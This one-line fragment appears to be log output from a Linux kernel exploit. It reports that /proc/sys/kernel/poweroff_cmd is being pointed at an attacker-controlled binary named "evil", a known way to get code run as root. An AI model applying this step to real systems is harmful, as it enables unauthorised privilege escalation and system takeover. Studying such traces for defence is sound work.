setting /proc/sys/kernel/poweroff_cmd "$PWD/evil"
